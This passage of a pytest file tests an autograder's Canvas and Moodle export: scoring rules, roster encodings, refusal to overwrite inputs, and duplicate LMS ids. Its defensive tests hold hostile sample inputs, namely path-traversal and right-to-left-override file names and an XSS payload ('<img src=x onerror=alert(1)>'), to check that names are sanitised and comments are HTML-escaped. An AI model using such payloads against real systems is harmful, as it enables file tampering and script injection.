                             "\"Lee, Ann\",1210,,,\n\"Lee, Ann\",1211,,,\n\"Smith, Anna\",1204,,,\n", encoding="utf-8-sig")
    # Moodle's worksheet, as a spreadsheet saved it: names with a quote, a comma, a line break, an underscore
    moodle_roster = tmp / "moodle-worksheet.csv"
    with moodle_roster.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["Identifier", "Full name", "Email address", "Grade"])
        for number, name in [(3301, 'Zoë "Zo" Brontë_Smith'), (3303, "Chen, Wei"), (3304, "Wei\nChen"), (3305, "Tom Ray")]:
            writer.writerow([f"Participant {number}", name, f"p{number}@example.org", ""])
    subs, results = tmp / "SUBMISSIONS", tmp / "RESULTS"
    for download, name in ((canvas, "canvas"), (moodle, "moodle")):
        run = _cli("collect", download, "--lms", name, "--assignment", ASSIGNMENT, "--out", subs, cwd=tmp)
        assert run.returncode == 0, run.stderr
    run = _cli("grade", subs, "--out", results, "--jobs", "2", "--quiet", cwd=tmp)
    assert run.returncode == 0, run.stderr
    return tmp, subs, results, canvas_roster, moodle_roster


def _page(results: Path, student: str) -> bytes:
    return (results / "feedback" / student / ASSIGNMENT / f"{NB}.html").read_bytes()


def test_canvas_gets_each_students_page_as_a_comment_on_their_own_upload(feedback_class):
    tmp, subs, results, roster, _ = feedback_class
    archive = tmp / "canvas-feedback.zip"
    run = _cli("export", results, "--format", "canvas", "--roster", roster, "--out", tmp / "canvas.csv",
               "--feedback-zip", archive, "--collected", subs, cwd=tmp)
    assert run.returncode == 0, run.stderr
    # each student's current submission holds the file Canvas downloaded last (the re-upload "-1" for 1201)
    attachments = {"1201": {"50077"}, "1202": {"50010"}, "1203": {"50020"}, "1210": {"50030"}, "1211": {"50031"}}
    given = canvas_reads(archive, attachments)
    assert sorted(given) == ["1201", "1202", "1203", "1210", "1211"]  # not 1204, who submitted nothing
    with zipfile.ZipFile(archive) as z:
        assert len(z.namelist()) == 5  # nothing Canvas would ignore
        for user, (name,) in given.items():  # the two Ann Lees each get their own page
            assert z.read(name) == _page(results, user), user
    assert given["1202"] == [f"nguyenthịlan_late_1202_50010_{NB}-feedback.html"]  # named as the late download
    assert "wrote 5 feedback pages" in run.stdout
    # Canvas attaches only to a file of the submission: without collect's report it cannot be named
    run = _cli("export", results, "--format", "canvas", "--out", tmp / "c.csv", "--feedback-zip", tmp / "c.zip", cwd=tmp)
    assert run.returncode == 2 and "--collected" in run.stderr and not (tmp / "c.csv").exists()


def test_moodle_gets_a_folder_per_participant_and_a_comment_per_student(feedback_class):
    tmp, subs, results, _, roster = feedback_class
    archive, sheet = tmp / "moodle-feedback.zip", tmp / "moodle.csv"
    run = _cli("export", results, "--format", "moodle", "--roster", roster, "--out", sheet, "--feedback-zip", archive,
               cwd=tmp)
    assert run.returncode == 0, run.stderr
    given = moodle_reads(archive, {"3301", "3303", "3304", "3305"})
    assert given == {"3301": [f"{NB}-feedback.html"], "3303": [f"{NB}-feedback.html"], "3304": [f"{NB}-feedback.html"]}
    with zipfile.ZipFile(archive) as z:
        for name in z.namelist():
            participant = name.split("_")[1]
            assert z.read(name) == _page(results, participant)
        assert "Zoë Zo Brontë Smith_3301_assignsubmission_file/" in {n.split("/")[0] + "/" for n in z.namelist()}
    rows = {r["Identifier"]: r for r in _read(sheet)}
    # the names round-trip through the worksheet as Moodle wrote them
    assert [rows[f"Participant {n}"]["Full name"] for n in (3301, 3303, 3304)] == [
        'Zoë "Zo" Brontë_Smith', "Chen, Wei", "Wei\nChen"]
    # each graded student: the score per test, a failing test with its hint
    full, buggy = (_comment(rows[f"Participant {n}"]["Feedback comments"]) for n in (3303, 3304))
    assert re.search(r"^test_sdpa_basic: 2 / 2$", full, re.M) and "(" not in full
    first, *later = [line for line in buggy.splitlines() if line.startswith("test_sdpa")]
    assert re.fullmatch(r"test_sdpa_basic: [\d.]+ / 2 \(.*is the 1/sqrt\(d_k\) scaling missing\?.*\)", first), buggy
    assert "(as above)" in later[0]  # one mistake: its hint once
    assert buggy.startswith("test_project_qkv: 1 / 1\n")
    assert rows["Participant 3305"]["Feedback comments"] == "Not graded: missing (nothing was submitted)"
    # the plain CSV has no upload
    run = _cli("export", results, "--format", "csv", "--out", tmp / "p.csv", "--feedback-zip", tmp / "p.zip", cwd=tmp)
    assert run.returncode == 2 and "canvas or moodle" in run.stderr


def test_a_pending_written_answer_is_in_neither_the_points_nor_the_maximum(tmp_path):
    """The score rule: 8 of 8 autograded and a 2-point written answer not graded yet is 8 of 8,
    "written answer: pending (2 points)"; an LMS, whose maximum is the whole 10, gets the points as
    they are (8 of 10), never scaled up; a late penalty is a percent of that whole."""
    results = tmp_path / "RESULTS"
    results.mkdir()
    (results / "grades.csv").write_text(
        "student_id,assignment,score,max_score,status,reason,written_points,to_grade_by_hand,late\n"
        f"pending,{ASSIGNMENT},8,8,ok,,2,2,\nhalf,{ASSIGNMENT},4,8,ok,,2,2,\nodd,{ASSIGNMENT},5.75,8,ok,,2,2,\n"
        f"graded,{ASSIGNMENT},9,8,ok,,2,0,\nlate,{ASSIGNMENT},8,8,ok,,2,2,yes\n", encoding="utf-8")
    for fmt in ("canvas", "moodle", "csv"):
        lms.export(results / "grades.csv", fmt, tmp_path / f"{fmt}.csv", late_penalty=10)
    with (tmp_path / "canvas.csv").open(encoding="utf-8-sig") as f:
        table = list(csv.reader(f))
    assert table[1][5] == "10" and {r[1]: r[5] for r in table[2:]} == {
        "pending": "8", "half": "4", "odd": "5.75", "graded": "9", "late": "7"}  # late: 10 % of the whole 10
    moodle = {r["Identifier"]: r for r in _read(tmp_path / "moodle.csv")}
    assert (moodle["Participant pending"]["Grade"], moodle["Participant pending"]["Maximum Grade"]) == ("8", "10")
    assert _comment(moodle["Participant pending"]["Feedback comments"]) == (
        "written answer: pending (2 points): 8 of 8 counted, 8 of 10 in the LMS until it is graded")
    plain = {r["student_id"]: r for r in _read(tmp_path / "csv.csv")}
    assert [(plain[s]["score"], plain[s]["max_score"]) for s in ("pending", "half", "graded")] == [
        ("8", "8"), ("4", "8"), ("9", "10")]


def test_the_score_rule_is_one_function():
    """course_score: what every sheet, the class report and the service's distribution use."""
    pending = lms.course_score(8, 8, written_points=2, pending=2)
    assert (pending.points, pending.maximum, pending.whole, pending.share) == (8, 8, 10, 1.0)
    released = lms.course_score(8, 8, written_points=2)  # an answer left as released: nbgrader's 0 counts
    assert (released.maximum, released.share) == (10, 0.8)
    assert lms.course_score(0, 0).share == 0.0
    notebooks = [{"score": 3, "max_score": 4, "written_points": 2, "to_grade_by_hand": 0,
                  "tests": [{"manual": True, "points": 1.5}, {"manual": False, "points": 3}]},
                 {"score": 2, "max_score": 4, "written_points": 1, "to_grade_by_hand": 1,
                  "tests": [{"manual": True, "points": None}]}]
    assert lms.notebooks_score(notebooks) == lms.Score(6.5, 10, 1)


# --------------------------------------------------------------------------
# the instructor's odd files


def test_a_roster_saved_by_a_spreadsheet_in_utf16_or_cp1252_is_read(tmp_path):
    rows = [["student_id", "lms_id", "name"], ["s1", "1201", "Müller, José"], ["s2", "1202", "Zoë “Zo” Brontë"]]
    unicode_text = tmp_path / "unicode.txt"  # Excel's "Unicode Text": UTF-16 with a byte-order mark, tabs
    unicode_text.write_bytes("\r\n".join("\t".join(row) for row in rows).encode("utf-16"))
    windows = tmp_path / "windows.csv"  # Excel's "CSV" on a Windows in French: cp1252, semicolons
    windows.write_bytes("\r\n".join(";".join(f'"{c}"' if "," in c else c for c in row) for row in rows).encode("cp1252"))
    for path in (unicode_text, windows):
        assert [(s.student_id, s.lms_id, s.name) for s in lms.read_roster(path)] == [
            ("s1", "1201", "Müller, José"), ("s2", "1202", "Zoë “Zo” Brontë")], path.name


@pytest.mark.parametrize("wrapped", [False, True], ids=["canvas-zip", "zip-in-a-zip"])
def test_grade_on_a_raw_canvas_download_suggests_a_collect_command_that_works(tmp_path, wrapped):
    download = canvas_download(tmp_path)
    if wrapped:  # the download, zipped again (as a browser or a colleague may send it)
        (tmp_path / "outer").mkdir()
        with zipfile.ZipFile(tmp_path / "outer" / "from-a-colleague.zip", "w") as archive:
            archive.write(download, "submissions.zip")
            archive.writestr("__MACOSX/._submissions.zip", b"\0")
        download = tmp_path / "outer" / "from-a-colleague.zip"
    run = _cli("grade", download, "--out", tmp_path / "R", cwd=REPO)
    assert run.returncode == 1, run.stderr
    (suggested,) = re.findall(r"run `(python -m autograder collect .+?)` first", run.stderr)
    assert f"collect {download} --lms canvas --assignment {ASSIGNMENT} --out SUBMISSIONS" in suggested
    run = subprocess.run(suggested.replace("python", sys.executable, 1).replace("SUBMISSIONS", str(tmp_path / "S")),
                         shell=True, cwd=REPO, capture_output=True, text=True)
    assert run.returncode == 0 and "collected 3 notebooks" in run.stdout, run.stderr
    assert sorted(p.name for p in (tmp_path / "S").iterdir() if p.is_dir()) == ["1201", "1202", "1203"]


def test_collect_with_the_wrong_lms_says_which_the_download_looks_like(tmp_path):
    run = _cli("collect", moodle_download(tmp_path), "--assignment", ASSIGNMENT, "--out", tmp_path / "S", cwd=REPO)
    assert run.returncode == 1 and "looks like a Moodle download, not Canvas's: run it again with --lms moodle" in run.stderr
    run = _cli("collect", canvas_download(tmp_path), "--lms", "moodle", "--assignment", ASSIGNMENT, "--out",
               tmp_path / "S2", cwd=REPO)
    assert run.returncode == 1 and "--lms canvas" in run.stderr


# --------------------------------------------------------------------------
# issue 61: no output replaces an input, one LMS id is one student, safe names, HTML comments


def _results_with_pages(tmp: Path, students: dict[str, str]) -> Path:
    """A RESULTS folder (grades.csv, results.json and a feedback page per student) without grading:
    student id -> the reason in grades.csv."""
    results = tmp / "RESULTS"
    results.mkdir()
    (results / "grades.csv").write_text(
        "student_id,assignment,score,max_score,status,reason,written_points,to_grade_by_hand,late\n" + "".join(
            f"{sid},{ASSIGNMENT},5,10,ok,\"{reason}\",2,0,\n" for sid, reason in students.items()), encoding="utf-8")
    (results / "results.json").write_text("[]")
    for sid in students:
        page = results / "feedback" / sid / ASSIGNMENT / f"{NB}.html"
        page.parent.mkdir(parents=True)
        page.write_text(f"<p>the page of {sid}</p>")
    return results


def test_export_never_writes_over_what_it_reads(tmp_path, monkeypatch, capsys):
    from autograder import cli

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(cli, "prepare_process", lambda: None)  # in this process: leave PyTorch's threads alone

    def export(*args):  # the command in this process (a second each as a program); the last case runs it as one
        status = cli.main(["export", str(results), "--format", "moodle", "--roster", str(roster), *map(str, args)])
        return subprocess.CompletedProcess(args, status, *capsys.readouterr())

    results = _results_with_pages(tmp_path, {"s1": ""})
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,lms_id,name\ns1,1201,Ann Lee\n", encoding="utf-8")
    (tmp_path / "link.csv").symlink_to(results / "grades.csv")
    os.link(results / "results.json", tmp_path / "hard.json")
    before = {**tree_digest(results), "roster": roster.read_bytes()}
    cases = [  # the output's options -> the input named in the refusal
        (["--out", results / "grades.csv"], "grades.csv"),
        (["--out", "RESULTS/../RESULTS/results.json"], "results.json"),  # relative, with ..
        (["--out", "link.csv"], "grades.csv"),  # a link to grades.csv
        (["--out", "hard.json"], "results.json"),  # a second name of results.json
        (["--out", roster], "roster.csv"),
        (["--out", results / "feedback" / "s1" / "new.csv"], "feedback"),  # inside a folder it reads
        (["--out", "out.csv", "--feedback-zip", results / "results.json"], "results.json"),
        (["--out", "gradebook.db", "--gradebook", f"sqlite:///{tmp_path / 'gradebook.db'}"], "gradebook.db"),
        (["--out", "same.csv", "--feedback-zip", "same.csv"], "the same file as --out"),
    ]
    for outputs, named in cases:
        run = export(*outputs) if outputs != cases[-1][0] else _cli(
            "export", results, "--format", "moodle", "--roster", roster, *outputs, cwd=tmp_path)
        assert run.returncode == 2 and named in run.stderr and "nothing was written" in run.stderr, (outputs, run.stderr)
        assert len(run.stderr.strip().splitlines()) == 1 and "Traceback" not in run.stderr
        assert {**tree_digest(results), "roster": roster.read_bytes()} == before, outputs
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "same.csv").exists()
    run = export("--out", results / "moodle.csv")  # an output beside them is fine
    assert run.returncode == 0, run.stderr


def test_a_roster_that_repeats_an_lms_id_is_refused_and_names_both_rows(tmp_path):
    results = _results_with_pages(tmp_path, {"s1": "", "s2": "", "s3": ""})
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,lms_id,name\ns1,1201,Ann Lee\ns2,1202,Bo Chen\ns3,1201,Cy Diaz\n", encoding="utf-8")
    with pytest.raises(lms.LmsError, match=r"rows 2 \(Ann Lee\) and 4 \(Cy Diaz\) have the same LMS id '1201'"):
        lms.read_roster(roster)
    run = _cli("export", results, "--format", "moodle", "--roster", roster, "--out", tmp_path / "m.csv",
               "--feedback-zip", tmp_path / "m.zip", cwd=tmp_path)
    assert run.returncode == 2 and "Ann Lee" in run.stderr and "Cy Diaz" in run.stderr, run.stderr
    assert not (tmp_path / "m.csv").exists() and not (tmp_path / "m.zip").exists()
    canvas = tmp_path / "canvas.csv"  # Canvas's own export, one ID twice
    canvas.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Lee, Ann\",1201,,,\n\"Lee, Ann\",1201,,,\n")
    with pytest.raises(lms.LmsError, match="the same student id '1201'"):
        lms.read_roster(canvas)
    # a roster made another way (the service's people): both left out of the sheet and the zip, named
    people = [lms.Student("s1", "1201", "Ann Lee"), lms.Student("s2", "1202", "Bo Chen"), lms.Student("s3", "1201", "Cy Diaz")]
    _, rows, left_out = lms.export(results / "grades.csv", "moodle", tmp_path / "m.csv", roster=people)
    assert [r.student.student_id for r in rows] == ["s2"]
    assert sorted(left_out) == ["s1 (Ann Lee) shares the LMS id 1201 with s3: neither gets a grade or feedback",
                                "s3 (Cy Diaz) shares the LMS id 1201 with s1: neither gets a grade or feedback"]
    assert [r["Identifier"] for r in _read(tmp_path / "m.csv")] == ["Participant 1202"]
    upload = lms.feedback_upload(results, "moodle", rows, ASSIGNMENT)
    assert list(upload.members.values()) == [results / "feedback" / "s2" / ASSIGNMENT / f"{NB}.html"]


HOSTILE_FILE_NAMES = {  # participant id -> a name as a download or a roster may give it
    "3401": "Ann\nLee",  # a line break
    "3402": "Bo \u202egnp.exe Chen",  # a right-to-left override
    "3403": "Ç" * 300,  # 600 bytes of UTF-8
    "3404": "../../..",  # a path that climbs
    "3405": "C:\\Windows\\evil\tname\x00\u200b",  # a drive, backslashes, a tab, a NUL, a zero-width space
    "3406": "12345",  # a number where Canvas reads the user id
}
_UNSAFE = re.compile(r"[\x00-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069\\\\]")


def _assert_safe(names: list[str]) -> None:
    for name in names:
        assert not _UNSAFE.search(name), repr(name)
        for part in name.split("/"):
            assert part not in ("", ".", "..") and len(part.encode("utf-8")) <= 255, repr(name)


def test_feedback_zip_names_from_hostile_downloads_and_rosters_are_safe(tmp_path):
    results = _results_with_pages(tmp_path, {sid: "" for sid in HOSTILE_FILE_NAMES})
    roster = tmp_path / "worksheet.csv"
    with roster.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["Identifier", "Full name", "Email address"])
        for sid, name in HOSTILE_FILE_NAMES.items():
            writer.writerow([f"Participant {sid}", name, ""])
    run = _cli("export", results, "--format", "moodle", "--roster", roster, "--out", tmp_path / "m.csv",
               "--feedback-zip", tmp_path / "moodle.zip", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    with zipfile.ZipFile(tmp_path / "moodle.zip") as z:
        _assert_safe(z.namelist())
        assert moodle_reads(tmp_path / "moodle.zip", set(HOSTILE_FILE_NAMES)) == {
            sid: [f"{NB}-feedback.html"] for sid in HOSTILE_FILE_NAMES}  # each participant still gets their page
        for name in z.namelist():
            assert z.read(name) == _page(results, name.split("/")[0].split("_")[1])
    # Canvas: the names come from the download, through collect's report
    collected = tmp_path / "SUBMISSIONS"
    collected.mkdir()
    downloaded = {sid: f"{name}_{sid}_{int(sid) + 50000}_{NB}.ipynb" for sid, name in HOSTILE_FILE_NAMES.items()}
    lms.write_csv(collected / f"collect-{ASSIGNMENT}.csv", ["file", "status", "student_id", "name", "late", "target", "reason"],
                  [[file, "placed", sid, "", "", f"{sid}/{ASSIGNMENT}/{NB}.ipynb", ""] for sid, file in downloaded.items()])
    run = _cli("export", results, "--format", "canvas", "--out", tmp_path / "c.csv", "--feedback-zip",
               tmp_path / "canvas.zip", "--collected", collected, cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert "what each student receives from Canvas" in run.stdout and "qkv.ipynb" in run.stdout
    with zipfile.ZipFile(tmp_path / "canvas.zip") as z:
        _assert_safe(z.namelist())
        assert all(name.endswith(f"_{NB}-feedback.html") for name in z.namelist())
    given = canvas_reads(tmp_path / "canvas.zip", {sid: {str(int(sid) + 50000)} for sid in HOSTILE_FILE_NAMES})
    assert sorted(given) == sorted(HOSTILE_FILE_NAMES)  # the ids survive: Canvas finds each student's file


def test_moodle_comments_are_escaped_html_lines(tmp_path):
    """Moodle stores feedback comments as HTML: what a student wrote (a file name in the reason, the
    exception their code raised) is text there, never markup."""
    hostile = "<img src=x onerror=alert(1)>.ipynb: superseded by a later file"
    results = _results_with_pages(tmp_path, {"3501": hostile.replace('"', '""')})
    (results / "results.json").write_text(json.dumps([{
        "student_id": "3501", "assignment": ASSIGNMENT, "notebook": NB, "status": "ok", "score": 5, "max_score": 10,
        "tests": [{"grade_id": "test_<b>", "points": 0, "max_points": 2, "passed": False,
                   "message": "✗ f: 1 of 1 cases fail\ncase 1: x\n    raised ValueError: <script>"}]}]))
    lms.export(results / "grades.csv", "moodle", tmp_path / "m.csv")
    cell = _read(tmp_path / "m.csv")[0]["Feedback comments"]
    assert "<img" not in cell and "<b>" not in cell and "&lt;img src=x onerror=alert(1)&gt;" in cell
    assert _comment(cell).splitlines() == [hostile, "test_<b>: 0 / 2 (raised ValueError)"]


def test_a_read_only_gradebook_that_must_change_is_one_line_and_exit_2(tmp_path):
    """export-gradebook writing a new student into a gradebook it may only read: one line, nothing
    written (nbgrader wraps the database's refusal in its own InvalidEntry)."""
    from nbgrader.api import Gradebook

    results, course = tmp_path / "RESULTS", tmp_path / "course"
    results.mkdir()
    course.mkdir()
    source = nbformat.read(REPO / "solutions" / ASSIGNMENT / f"{NB}.ipynb", as_version=4)
    graded = [c.metadata["nbgrader"] for c in source.cells if c.metadata.get("nbgrader", {}).get("grade")
              and c.cell_type == "code"]

    def class_of(*students):
        (results / "results.json").write_text(json.dumps([dict(
            student_id=s, assignment=ASSIGNMENT, notebook=NB, status="ok", reason="", score=1.0, max_score=11.0,
            tests=[dict(grade_id=c["grade_id"], points=0.0, max_points=c["points"], passed=False, message="")
                   for c in graded]) for s in students]))

    class_of("s1")
    db = course / "gradebook.db"
    assert _cli("export-gradebook", results, "--gradebook", db, cwd=tmp_path).returncode == 0
    before = db.read_bytes()
    class_of("s1", "s2")  # s2 is new: the gradebook must change
    run = _cli("export-gradebook", results, "--gradebook", f"sqlite:///file:{db}?mode=ro&uri=true",
               "--course-dir", tmp_path / "other-course", cwd=tmp_path)
    assert run.returncode == 2 and "readonly" in run.stderr and "nothing was recorded" in run.stderr, run.stderr
    assert "Traceback" not in run.stderr and len(run.stderr.strip().splitlines()) == 1
    assert db.read_bytes() == before and not (tmp_path / "other-course" / "autograded").exists()
    with Gradebook(f"sqlite:///{db}", "") as gb:
        assert [s.id for s in gb.students] == ["s1"]
